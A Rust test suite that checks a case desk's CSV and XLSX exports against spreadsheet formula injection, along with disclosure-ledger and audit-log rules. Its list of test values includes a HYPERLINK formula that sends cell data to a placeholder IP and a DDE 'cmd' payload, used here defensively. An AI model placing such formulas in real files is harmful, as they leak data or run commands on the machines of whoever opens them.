//! Lists as files: every cell a text for whoever opens them, and the first value again for whoever loads them.

use std::collections::BTreeSet;
use std::ops::ControlFlow;

use desk::audit::LogQuestion;
use desk::case_list::CaseQuestion;
use desk::export::{Sheet, TableForm};
use desk::follow::{Delivery, follow_release};
use desk::look_up::LookUp;
use desk::{DeskError, Input, Mapping, Question};
use domain::audit::LogPurpose;
use domain::disclosure::Disclosed;
use domain::id::CaseId;
use domain::source::Extent;
use domain::spreadsheet::{MARK, unguarded};

use crate::house::{House, company, person, things};

/// Values that a spreadsheet might take for something else, or that a file might break at.
const NASTY: [&str; 16] = [
    "=1+1",
    "=HYPERLINK(\"http://198.51.100.7/?\"&A1,\"open\")",
    "=cmd|'/c calc'!A0",
    "+31 20 555 0101",
    "-2+3",
    "@SUM(1,2)",
    "'=1+1",
    "''=2",
    "\"Lund\", \"Sons\" & Co",
    "one,two;three\tfour",
    "line one\nline two",
    "_x0041_ is no letter",
    "<row/> &amp; &#x3d;",
    "\u{5b9b}\u{540d}",
    "\u{ff1d}1+1",
    "plain",
];

/// The rows of a file as RFC 4180 has them, and nothing but that.
fn strict(text: &str) -> Vec<Vec<String>> {
    let mut rows = vec![vec![]];
    let mut rest = text.chars().peekable();
    while rest.peek().is_some() {
        assert_eq!(rest.next(), Some('"'), "every cell is in quotes");
        let mut cell = String::new();
        loop {
            match rest.next() {
                Some('"') if rest.peek() == Some(&'"') => {
                    rest.next();
                    cell.push('"');
                }
                Some('"') => break,
                Some(sign) => cell.push(sign),
                None => panic!("a quote is not closed"),
            }
        }
        rows.last_mut().unwrap().push(cell);
        match rest.next() {
            Some(',') => {}
            Some('\r') => {
                assert_eq!(rest.next(), Some('\n'), "rows end with CR and LF");
                rows.push(vec![]);
            }
            other => panic!("{other:?} after a cell"),
        }
    }
    assert_eq!(rows.pop(), Some(vec![]), "the last row is ended as well");
    rows
}

fn told() -> Disclosed {
    Disclosed {
        recipient: "Tax Office".into(),
        address: "1 Quay Street".into(),
        purpose: "assessing tax".into(),
        authority: "Tax Act s. 12".into(),
        nature: "list by courier".into(),
    }
}

/// Loads a file of ours into a dataset; its column becomes a value of a company each.
fn loaded(house: &House, dataset: &str, name: &str, column: &str, bytes: &[u8]) {
    let path = house.folder.path().join(name);
    std::fs::write(&path, bytes).unwrap();
    let mapping = format!(
        "{dataset}:\n  queries:\n    - file: {name}\n      entities:\n        row:\n          schema: Company\n          \
         keys: [{column}]\n          properties:\n            name: {{columns: [{column}]}}\n"
    );
    let mapping = Mapping::parse(&mapping).unwrap();
    let delivery = Delivery {
        dataset,
        label: name.into(),
        files: vec![Input {
            name: name.into(),
            path,
        }],
        mapping: &mapping,
        extent: Extent::Full,
    };
    follow_release(&house.desk, &house.dara, &delivery, &mut |_| {
        ControlFlow::Continue(())
    })
    .unwrap();
    house.desk.catch_up(&mut |_| ()).unwrap();
}

/// How the companies of a dataset are called, as the case finds them.
fn names(house: &House, case: CaseId, dataset: &str) -> BTreeSet<String> {
    let id = house
        .desk
        .datasets(&house.ines)
        .unwrap()
        .into_iter()
        .find(|one| one.name == dataset)
        .unwrap()
        .id;
    let asked = LookUp {
        question: Question {
            dataset: Some(id),
            schema: Some("Company".into()),
            limit: 100,
            ..things("").question
        },
        ..things("")
    };
    let found = house.desk.look_up(&house.ines, case, &asked).unwrap();
    let hits = found.things.unwrap().hits;
    hits.into_iter().map(|hit| hit.caption).collect()
}

#[test]
fn in_03_every_cell_is_text_and_comes_back_as_it_was_c1() {
    let values = NASTY.iter().map(|value| (*value).to_owned());
    let values: Vec<String> = values
        .chain([
            "\t=1+1".into(),
            "\r=1+1".into(),
            "\n=1".into(),
            String::new(),
        ])
        .collect();
    let sheet = Sheet {
        name: "values",
        heads: vec!["value", "again"],
        rows: values
            .iter()
            .map(|value| vec![value.clone(), value.clone()])
            .collect(),
    };
    let rows = strict(&sheet.csv());
    assert_eq!(rows[0], [MARK, "value", "again"]);
    for (row, value) in rows[1..].iter().zip(&values) {
        for cell in &row[1..] {
            let first = cell.chars().next();
            assert!(
                !matches!(first, Some('=' | '+' | '-' | '@' | '\t' | '\r')),
                "{cell:?}"
            );
            assert_eq!(unguarded(cell), value);
        }
    }
    assert_eq!(rows.len(), values.len() + 1);
    let long = Sheet {
        rows: vec![vec!["\u{1f6a2}".repeat(20_000), String::new()]],
        ..sheet
    };
    assert!(long.csv().contains(&"\u{1f6a2}".repeat(20_000)));
    long.bytes(TableForm::Xlsx).unwrap();
}

#[test]
fn in_03_what_a_search_found_goes_out_as_text_and_loads_again_as_it_was_c1() {
    let house = House::new();
    for name in ["from_csv", "from_xlsx", "foreign"] {
        house.bring(name, false);
    }
    let mut all: Vec<_> = (0..)
        .zip(NASTY)
        .map(|(number, value)| company(&format!("{number}"), value, "active"))
        .collect();
    all.push(person("p1", "=Oda Karlsen", "1961-05-12"));
    house.deliver("register", "1", &all);
    let case = house.open_case();
    let first = names(&house, case, "register");
    assert!(first.len() >= 14, "{first:?}");
    let asked = LookUp {
        question: Question {
            schema: Some("Company".into()),
            limit: 100,
            ..things("").question
        },
        ..things("")
    };
    let silent = Disclosed {
        purpose: " ".into(),
        ..told()
    };
    let (desk, ines) = (&house.desk, &house.ines);
    assert!(matches!(
        desk.export_search(ines, case, &asked, TableForm::Csv, &silent),
        Err(DeskError::Malformed {
            field: "purpose",
            ..
        })
    ));
    assert!(desk.disclosures(ines, case).unwrap().is_empty());
    assert!(
        desk.export_search(&house.jonas, case, &asked, TableForm::Csv, &told())
            .is_err()
    );
    let csv = desk
        .export_search(ines, case, &asked, TableForm::Csv, &told())
        .unwrap();
    let xlsx = desk
        .export_search(ines, case, &asked, TableForm::Xlsx, &told())
        .unwrap();
    let ledger = desk.disclosures(ines, case).unwrap();
    assert_eq!(ledger.len(), 2, "a line each");
    assert_eq!(ledger[0].items.len(), first.len());
    let entry = house.log().pop().unwrap();
    assert_ne!(entry.act, "disclose", "the ledger was read after it");

    let rows = strict(std::str::from_utf8(&csv.bytes).unwrap());
    let captions: BTreeSet<String> = rows[1..]
        .iter()
        .map(|row| unguarded(&row[4]).to_owned())
        .collect();
    assert_eq!(captions, first);
    loaded(&house, "from_csv", "found.csv", "caption", &csv.bytes);
    loaded(&house, "from_xlsx", "found.xlsx", "caption", &xlsx.bytes);
    assert_eq!(names(&house, case, "from_csv"), first);
    assert_eq!(names(&house, case, "from_xlsx"), first);
    // A file that is none of ours keeps its apostrophes.
    let foreign = "row,caption\n1,'=1+1\n2,''twice\n";
    loaded(
        &house,
        "foreign",
        "foreign.csv",
        "caption",
        foreign.as_bytes(),
    );
    let kept: BTreeSet<String> = ["'=1+1".to_owned(), "''twice".to_owned()].into();
    assert_eq!(names(&house, case, "foreign"), kept);
}

#[test]
fn in_03_persons_who_are_no_subjects_are_not_in_the_file_c1() {
    let house = House::new();
    let all = [
        company("1", "Karlsen Dredging", "active"),
        person("7", "Oda Karlsen", "1961-05-12"),
    ];
    house.deliver("register", "1", &all);
    let case = house.open_case();
    let asked = crate::house::persons("Oda Karlsen", "1961");
    let made = |house: &House| {
        let file = house
            .desk
            .export_search(&house.ines, case, &asked, TableForm::Csv, &told())
            .unwrap();
        (
            strict(std::str::from_utf8(&file.bytes).unwrap()).len(),
            file.line.items.len(),
        )
    };
    assert_eq!(made(&house), (1, 0));
    let record = house.record(case, "register", "7");
    let new = desk::subject::NewSubject {
        record,
        role: domain::case::SubjectRole::Witness,
        basis: "saw the berth".into(),
    };
    house.desk.add_subject(&house.ines, case, &new).unwrap();
    assert_eq!(made(&house), (2, 1));
}

#[test]
fn in_03_lists_of_cases_and_of_the_log_are_files_that_the_log_knows_of_c1() {
    let house = House::new();
    let mut new = desk::open_case::NewCase {
        title: "=HYPERLINK(\"http://198.51.100.7\")".into(),
        predicate: "Two bids from one address".into(),
        kinds: domain::case::SubjectKind::ALL.to_vec(),
        days: 90,
        ..Default::default()
    };
    house.desk.open_case(&house.ines, &new).unwrap();
    new.title = "-2+3".into();
    house.desk.open_case(&house.ines, &new).unwrap();
    let question = CaseQuestion::default();
    let file = house
        .desk
        .export_cases(&house.ines, &question, TableForm::Csv)
        .unwrap();
    assert!(file.name.ends_with(".csv") && !file.name.contains("first"));
    let rows = strict(std::str::from_utf8(&file.bytes).unwrap());
    let titles: Vec<&str> = rows[1..].iter().map(|row| unguarded(&row[2])).collect();
    assert_eq!(titles, ["-2+3", "=HYPERLINK(\"http://198.51.100.7\")"]);
    let others = house
        .desk
        .export_cases(&house.jonas, &question, TableForm::Csv)
        .unwrap();
    assert_eq!(strict(std::str::from_utf8(&others.bytes).unwrap()).len(), 1);
    let entry = house
        .log()
        .into_iter()
        .find(|entry| entry.act == "list_cases" && entry.objects == ["file:csv", "rows:2"]);
    assert!(entry.is_some());

    let asked = LogQuestion {
        purpose: Some(LogPurpose::Lawfulness),
        ..Default::default()
    };
    let file = house
        .desk
        .export_log(&house.aude, &asked, TableForm::Csv)
        .unwrap();
    let rows = strict(std::str::from_utf8(&file.bytes).unwrap());
    let entries = house.log();
    assert!(rows.len() > 10);
    let number: usize = rows[1][1].parse().unwrap();
    assert_eq!(rows[1][4], entries[number - 1].act);
    assert!(matches!(
        house.desk.export_log(&house.ines, &asked, TableForm::Csv),
        Err(DeskError::Refused(_))
    ));
    let silent = LogQuestion::default();
    assert!(
        house
            .desk
            .export_log(&house.aude, &silent, TableForm::Xlsx)
            .is_err(),
        "the log is read for a purpose, as a file as well"
    );
}

/// Reads a workbook with the library openpyxl and prints what each cell is and holds.
const READS: &str = r#"
import json, sys, openpyxl
sheet = openpyxl.load_workbook(sys.argv[1]).active
print(json.dumps([[[cell.data_type, cell.number_format, cell.value or ""] for cell in row] for row in sheet.iter_rows()]))
"#;

#[test]
fn in_03_a_reader_of_workbooks_that_is_not_ours_finds_texts_only_c1() {
    let Some(bin) = std::env::var_os("PREDICATE_VALIDATORS") else {
        println!("SKIPPED in_03 PREDICATE_VALIDATORS names no environment");
        return;
    };
    let python = std::path::PathBuf::from(bin).join("python");
    let sheet = Sheet {
        name: "values",
        heads: vec!["value"],
        rows: NASTY
            .iter()
            .chain(&["\t=1+1", "\r=1+1"])
            .map(|value| vec![(*value).to_owned()])
            .collect(),
    };
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("values.xlsx");
    std::fs::write(&path, sheet.bytes(TableForm::Xlsx).unwrap()).unwrap();
    let out = std::process::Command::new(python)
        .args(["-c", READS])
        .arg(&path)
        .output()
        .unwrap();
    let said = String::from_utf8_lossy(&out.stderr);
    if said.contains("No module named 'openpyxl'") {
        println!("SKIPPED in_03 the environment has no openpyxl");
        return;
    }
    assert!(out.status.success(), "{said}");
    let rows: Vec<Vec<(String, String, serde_json::Value)>> =
        serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(rows.len(), sheet.rows.len() + 1);
    for (row, wanted) in rows[1..].iter().zip(&sheet.rows) {
        let (kind, format, value) = &row[1];
        assert_eq!((kind.as_str(), format.as_str()), ("s", "@"), "{value}");
        let value = value.as_str().unwrap();
        // That library leaves the form's escapes as they stand.
        let value = value.replace("_x000D_", "\r").replace("_x005F_", "_");
        assert_eq!(value, wanted[0]);
    }
}
